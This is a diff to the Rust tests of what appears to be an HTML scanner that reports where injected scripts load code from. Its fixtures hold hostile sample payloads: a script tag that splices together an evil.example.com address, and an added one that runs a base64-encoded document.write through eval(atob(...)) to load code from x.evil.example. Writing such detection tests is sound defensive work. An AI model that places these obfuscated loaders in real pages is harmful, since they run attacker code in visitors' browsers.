@@ -1239,6 +1239,10 @@ mod tests {
         assert_eq!(terms(escaped), vec!["bad.example.com->document.write"]);
         let pieces = r#"<script>var u = "ht" + "tp://ev" + "il.exa" + "mple.com/x.js"; var s = document.createElement("script"); s.src = u;</script>"#;
         assert_eq!(terms(pieces), vec!["evil.example.com->createElement+src"]);
+        // Code run from a decoded string: its addresses are hidden, written
+        // out or not (`document.write('<script src="http://x.evil.example/a.js"><\/script>')`).
+        let run = "<script>eval(atob('ZG9jdW1lbnQud3JpdGUoJzxzY3JpcHQgc3JjPSJodHRwOi8veC5ldmlsLmV4YW1wbGUvYS5qcyI+PFwvc2NyaXB0PicpOw=='))</script>";
+        assert_eq!(terms(run), vec!["x.evil.example->document.write"]);
         // What sites write themselves: the government-site badge and CNZZ
         // percent-encode the markup around an address the source shows;
         // a template escapes only punctuation; a host built from a variable
